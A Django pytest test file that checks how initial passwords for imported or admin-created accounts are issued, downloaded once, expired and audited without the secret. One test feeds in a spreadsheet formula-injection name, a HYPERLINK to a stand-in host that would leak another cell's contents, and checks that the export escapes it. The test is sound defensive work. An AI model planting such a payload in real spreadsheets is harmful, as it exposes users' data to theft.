"""Initial passwords: one of its own for each imported or admin-created account, downloaded
once by the admin who issued it, audited as issued without the secret."""

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from lms.accounts.models import InitialPasswordSheet, User
from lms.core.models import AuditEntry
from tests.factories import OrganizationFactory
from tests.utils import xlsx_bytes

from .test_import import MEMBER_HEADER

pytestmark = pytest.mark.django_db


def _import(client: Client, rows: list[list]) -> InitialPasswordSheet:
    """Import `rows` through the admin page; the sheet of initial passwords it offers."""
    upload = xlsx_bytes([MEMBER_HEADER, *rows])
    upload.name = "支部党员.xlsx"
    response = client.post("/admin/import/", {"kind": "members", "file": upload, "apply": "1"})
    assert response.status_code == 200
    sheet = InitialPasswordSheet.objects.get()
    assert f'action="/admin/import/passwords/{sheet.pk}/"' in response.text
    assert "下载初始密码" in response.text
    return sheet


def _download(client: Client, sheet: InitialPasswordSheet) -> dict[str, list]:
    """The downloaded sheet's rows by username."""
    response = client.post(f"/admin/import/passwords/{sheet.pk}/")
    assert response.status_code == 200, response.content
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0] == ("用户名", "姓名", "组织", "初始密码")
    return {row[0]: list(row) for row in rows[1:] if row[0] and len(row) > 3 and row[3]}


def _login(username: str, password: str) -> Client:
    client = Client()
    response = client.post("/accounts/login/", {"username": username, "password": password})
    assert response.status_code == 302, f"{username} could not log in"
    return client


@pytest.fixture
def admin(admin_user) -> Client:
    client = Client()
    client.force_login(admin_user)
    return client


@pytest.fixture
def branch(db):
    return OrganizationFactory(code="D01", name="第一党支部")


def test_two_imported_members_get_their_own_passwords_each_good_for_their_account_only(
    admin, branch
):
    sheet = _import(
        admin,
        [
            ["zhangsan", "张三", "", "", "正式党员", "", "", "", "D01"],
            ["lisi", "李四", "", "", "正式党员", "", "", "", "D01"],
        ],
    )

    rows = _download(admin, sheet)

    assert set(rows) == {"zhangsan", "lisi"}
    assert rows["zhangsan"][1:3] == ["张三", "第一党支部"]
    first, second = rows["zhangsan"][3], rows["lisi"][3]
    assert first != second and len(first) == len(second) == 19
    # Each logs in with their own, is then asked for a password of their own, and the
    # stored hash is upgraded to the default hasher at that first login.
    response = _login("zhangsan", first).get("/accounts/me/")
    assert response["Location"] == "/accounts/password/"
    assert User.objects.get(username="zhangsan").password.startswith("md5$")
    assert User.objects.get(username="lisi").password.startswith("pbkdf2_sha256_initial$")
    wrong = Client().post("/accounts/login/", {"username": "lisi", "password": first})
    assert wrong.status_code == 200 and "用户名或密码错误" in wrong.text


def test_the_initial_passwords_download_once_and_a_second_download_is_refused(admin, branch):
    sheet = _import(admin, [["zhangsan", "张三", "", "", "正式党员", "", "", "", "D01"]])
    assert _download(admin, sheet)

    again = admin.post(f"/admin/import/passwords/{sheet.pk}/")

    assert again.status_code == 410
    assert "已于" in again.text and "只显示一次" in again.text
    assert "application/vnd" not in again["Content-Type"]
    sheet.refresh_from_db()
    assert sheet.entries == [] and sheet.downloaded_at is not None
    assert "已于" in admin.get(f"/admin/import/passwords/{sheet.pk}/").text


def test_only_the_admin_who_imported_may_download_the_passwords(admin, branch, django_user_model):
    sheet = _import(admin, [["zhangsan", "张三", "", "", "正式党员", "", "", "", "D01"]])
    other = Client()
    other.force_login(django_user_model.objects.create_superuser("admin2", "a2@example.com", "x"))

    assert other.get(f"/admin/import/passwords/{sheet.pk}/").status_code == 404
    assert other.post(f"/admin/import/passwords/{sheet.pk}/").status_code == 404
    assert _download(admin, sheet)


def test_the_audit_log_says_issued_for_each_account_without_the_password(admin, admin_user, branch):
    sheet = _import(
        admin,
        [
            ["zhangsan", "张三", "", "", "正式党员", "", "", "", "D01"],
            ["lisi", "李四", "", "", "正式党员", "", "", "", "D01"],
        ],
    )
    passwords = [row[3] for row in _download(admin, sheet).values()]

    issued = AuditEntry.objects.filter(action="account.password_issued")
    assert sorted(issued.values_list("target", flat=True)) == ["lisi", "zhangsan"]
    assert {(e.actor, e.organization) for e in issued} == {(admin_user, branch)}
    downloaded = AuditEntry.objects.get(action="account.passwords_downloaded")
    assert (downloaded.actor, downloaded.detail["accounts"]) == (admin_user, 2)
    everything = str(list(AuditEntry.objects.values()))
    assert not any(password in everything for password in passwords)


def test_passwords_nobody_downloaded_in_time_are_refused_and_deleted(admin, branch, settings):
    sheet = _import(admin, [["zhangsan", "张三", "", "", "正式党员", "", "", "", "D01"]])
    InitialPasswordSheet.objects.filter(pk=sheet.pk).update(
        created_at=timezone.now() - dt.timedelta(hours=settings.ACCOUNTS_PASSWORD_SHEET_HOURS + 1)
    )

    response = admin.post(f"/admin/import/passwords/{sheet.pk}/")

    assert response.status_code == 410 and "已过期" in response.text
    assert not InitialPasswordSheet.objects.exists()


def test_the_hourly_job_deletes_expired_sheets_and_tokens(admin, branch, settings, people):
    from lms.accounts.models import ApiToken
    from lms.accounts.tasks import delete_expired_credentials
    from tests.factories import api_token

    old = _import(admin, [["zhangsan", "张三", "", "", "正式党员", "", "", "", "D01"]])
    InitialPasswordSheet.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - dt.timedelta(hours=settings.ACCOUNTS_PASSWORD_SHEET_HOURS + 1)
    )
    api_token(people["member_a1"], "old phone")
    api_token(people["member_a1"], "new phone")
    ApiToken.objects.filter(client="old phone").update(expiry=timezone.now())

    assert delete_expired_credentials() == {"password_sheets": 1, "api_tokens": 1}
    assert list(ApiToken.objects.values_list("client", flat=True)) == ["new phone"]


def test_the_sheet_writes_names_that_look_like_formulas_as_text(admin, branch):
    name = '=HYPERLINK("http://x.example/?"&B5,"点击")'
    text = io.StringIO()
    csv.writer(text).writerows(
        [["用户名", "姓名", "人员类别", "组织编码"], ["zs", name, "群众", "D01"]]
    )
    upload = io.BytesIO(text.getvalue().encode())
    upload.name = "members.csv"
    admin.post("/admin/import/", {"kind": "members", "file": upload, "apply": "1"})

    response = admin.post(f"/admin/import/passwords/{InitialPasswordSheet.objects.get().pk}/")

    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + name


def test_an_account_created_in_the_admin_gets_its_own_password_shown_once(admin):
    response = admin.post(
        "/admin/users/new/",
        {
            "username": "wangwu",
            "email": "wangwu@example.com",
            "first_name": "五",
            "last_name": "王",
            "is_active": "on",
        },
    )

    user = User.objects.get(username="wangwu")
    sheet = InitialPasswordSheet.objects.get()
    assert response["Location"] == f"/admin/import/passwords/{sheet.pk}/"
    page = admin.get(response["Location"])
    assert "下载初始密码" in page.text
    rows = _download(admin, sheet)
    assert user.must_change_password
    response = _login("wangwu", rows["wangwu"][3]).get("/accounts/me/")
    assert response["Location"] == "/accounts/password/"
    assert AuditEntry.objects.filter(action="account.password_issued", target="wangwu").exists()


def test_the_admins_add_user_form_asks_for_no_password(admin):
    page = admin.get("/admin/users/new/")

    assert page.status_code == 200
    assert 'name="password1"' not in page.text
    assert 'name="username"' in page.text
